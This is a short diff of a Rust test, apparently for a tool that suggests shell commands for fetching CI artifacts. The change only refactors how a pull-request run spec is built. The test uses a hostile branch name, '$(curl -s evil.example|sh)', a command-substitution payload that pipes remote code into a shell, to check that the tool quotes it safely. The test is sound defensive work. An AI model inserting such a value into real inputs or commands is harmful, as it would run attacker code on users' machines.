@@ -91,9 +91,7 @@ fn fetch_shows_esc_sequences_and_bidi_characters_from_a_manifest_escaped() {
 fn fetch_shell_quotes_a_hostile_branch_in_the_command_it_suggests() {
     let w = World::new();
     let branch = "$(curl -s evil.example|sh)";
-    let mut spec = RunSpec::completed(WORKFLOW, branch, &w.head, "success");
-    spec.event = "pull_request".into();
-    spec.head_repository = FORK.into();
+    let spec = RunSpec::pull_request(WORKFLOW, FORK, branch, &w.head);
     let run = w.fake.add_run(UPSTREAM, spec);
     w.expired_artifact(run);
 
